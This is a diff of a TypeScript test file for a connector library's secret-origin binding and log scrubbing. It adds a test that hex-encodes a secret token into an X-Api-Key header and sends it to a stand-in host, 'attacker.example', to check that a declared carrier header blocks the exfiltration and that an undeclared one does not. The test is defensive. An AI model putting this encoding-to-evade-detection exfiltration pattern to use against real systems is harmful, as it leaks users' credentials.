@@ -1,5 +1,6 @@
 import { describe, expect, it, vi } from 'vitest';
-import type { SecretResolver } from '../../lib/connectors/contract.js';
+import type { SecretCarrier, SecretResolver } from '../../lib/connectors/contract.js';
+import { getConnector } from '../../lib/connectors/registry.js';
 import { originBoundSecrets } from '../../lib/connectors/secret-origins.js';
 import { createSecretScrubber, REDACTED_SECRET, wireSecret } from '../../lib/connectors/secret-scrub.js';
 import { NumberValue } from '../../lib/json/lossless.js';
@@ -10,7 +11,7 @@ import { ClassifiedError } from '../../lib/retry/errors.js';
 const REF = 'ssm:/harvester/acme/token';
 const BOUND = 'https://api.acme.example';
 
-function bound(stored: string) {
+function bound(stored: string, carriers: readonly SecretCarrier[] = []) {
   const sent: string[] = [];
   const resolver: SecretResolver = async () => stored;
   const fetchFn = (async (input: Parameters<typeof fetch>[0]) => {
@@ -21,7 +22,7 @@ function bound(stored: string) {
     resolver,
     fetchFn,
     { originsFor: async () => [BOUND] },
-    { allowLoopback: false },
+    { allowLoopback: false, carriers },
   );
   return { ...secrets, sent };
 }
@@ -106,6 +107,19 @@ describe('the origin check compares what goes on the wire', () => {
     expect(sent).toEqual([]);
   });
 
+  it('a header the connector declares as the carrier is held to the binding whatever its value looks like', async () => {
+    const declared = bound('tok-hex-99', [{ reference: REF, header: 'X-Api-Key' }]);
+    const undeclared = bound('tok-hex-99');
+    const hex = (v: string) => ({ headers: { 'x-api-key': Buffer.from(v).toString('hex') } });
+
+    const refused = declared.fetch('https://attacker.example/items', hex(await declared.secrets(REF)));
+    await undeclared.fetch('https://attacker.example/items', hex(await undeclared.secrets(REF)));
+
+    await expect(refused).rejects.toThrow(`secret ${REF} may not be sent to https://attacker.example`);
+    expect(declared.sent).toEqual([]);
+    expect(undeclared.sent).toEqual(['https://attacker.example/items']); // no search finds hex
+  });
+
   it('a Basic credential sent to the bound origin is scrubbed as sent', async () => {
     const { secrets, fetch, scrub } = bound('s3cr3t-value');
     const value = await secrets(REF);
@@ -140,5 +154,44 @@ describe('the scrubbed logger', () => {
     expect(lines).toHaveLength(2);
     expect(lines.join('')).not.toContain('tok-log-1234');
     expect(lines.join('')).toContain(`x ${REDACTED_SECRET}`);
+  });
+});
+
+describe('every connector declares the header its secret travels in', () => {
+  const SECRET = 'tok-declared-1234';
+  it.each([
+    ['github-issues', { owner: 'o', repo: 'r', tokenRef: REF }],
+    ['gitlab-issues', { project: 42, tokenRef: REF }],
+    ['gitlab-issues', { project: 42, tokenRef: REF, authHeader: 'bearer' }],
+    [
+      'rest-json',
+      {
+        url: 'https://api.acme.example/items',
+        itemsPath: 'data',
+        idField: 'id',
+        updatedAtField: 'updatedAt',
+        pagination: { type: 'cursor', cursorParam: 'cursor', nextCursorPath: 'next_cursor' },
+        auth: { header: 'X-Api-Key', prefix: '', secretRef: REF },
+      },
+    ],
+  ])('%s %j', async (name, raw) => {
+    const connector = getConnector(name);
+    const config = connector.configSchema.parse(raw);
+    const carrying: string[] = [];
+    const fetchFn = (async (_input: Parameters<typeof fetch>[0], init?: RequestInit) => {
+      new Headers(init?.headers).forEach((value, header) => {
+        if (value.includes(SECRET)) carrying.push(header);
+      });
+      return new Response('[]', { headers: { 'content-type': 'application/json' } });
+    }) as typeof fetch;
+
+    await connector
+      .fetchPage(config, null, { fetch: fetchFn, secrets: async () => SECRET, since: null })
+      .catch(() => undefined);
+    const declared = (connector.secretCarriers?.(config) ?? []).map((c) => c.header.toLowerCase());
+
+    expect(carrying.length).toBeGreaterThan(0);
+    expect(carrying.filter((header) => !declared.includes(header))).toEqual([]);
+    expect(connector.secretCarriers?.(config).every((c) => c.reference === REF)).toBe(true);
   });
 });
